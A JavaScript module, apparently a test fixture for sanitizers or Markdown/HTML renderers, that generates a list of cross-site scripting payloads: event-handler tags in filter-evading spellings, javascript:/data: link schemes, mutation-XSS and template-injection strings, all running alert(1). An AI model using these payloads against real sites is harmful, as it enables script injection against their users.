// What people may type that a careless page would run: each way into a page, in many spellings.

const CODE = "alert(1)";

/** Elements that call something by themselves, and the attribute that does. */
const ELEMENTS = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["video><source", "onerror"],
  ["audio src=x", "onerror"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["marquee", "onstart"],
  ["iframe src=x", "onload"],
  ["a href=# style=animation-name:x", "onanimationstart"],
  ["div tabindex=0 autofocus", "onfocusin"],
];

/** Ways to write an element that a filter may not know. */
const SPELLINGS = [
  (element, event) => `<${element} ${event}=${CODE}>`,
  (element, event) => `<${element.toUpperCase()} ${event.toUpperCase()}="${CODE}">`,
  (element, event) => `<${element}\t${event}\n=\n'${CODE}'//`,
  (element, event) => `"'><${element} ${event}=${CODE} x="`,
];

const SCHEMES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  `&#106;avascript:${CODE}`,
  `javascript&colon;${CODE}`,
  `vbscript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
];

/** Ways to write an address into Markdown or HTML. */
const LINKS = [
  (address) => `[go](${address})`,
  (address) => `![see](${address})`,
  (address) => `<a href="${address}">go</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `[go][x]\n\n[x]: ${address}`,
];

const OTHERS = [
  `<script>${CODE}</script>`,
  `<scr<script>ipt>${CODE}</script>`,
  `</title><script>${CODE}</script>`,
  `</textarea><script>${CODE}</script>`,
  `--><script>${CODE}</script>`,
  `<script src=data:text/javascript,${CODE}></script>`,
  `<style>*{background:url(javascript:${CODE})}</style>`,
  `<link rel=stylesheet href=data:text/css,*{display:none}>`,
  `<base href=//127.0.0.1:1/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<form action="javascript:${CODE}"><button>go</button></form>`,
  `<math><mtext><img src=x onerror=${CODE}></mtext></math>`,
  `<svg><script>${CODE}</script></svg>`,
  `<template><img src=x onerror=${CODE}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `#{${CODE}}`,
  `<%= ${CODE} %>`,
  `\`<img src=x onerror=${CODE}>\``,
  `\u202e<img src=x onerror=${CODE}>\u202c`,
  `<img src="x\` \`onerror=${CODE}">`,
];

export const PAYLOADS = [
  ...ELEMENTS.flatMap(([element, event]) => SPELLINGS.map((spell) => spell(element, event))),
  ...SCHEMES.flatMap((address) => LINKS.map((link) => link(address))),
  ...OTHERS,
];
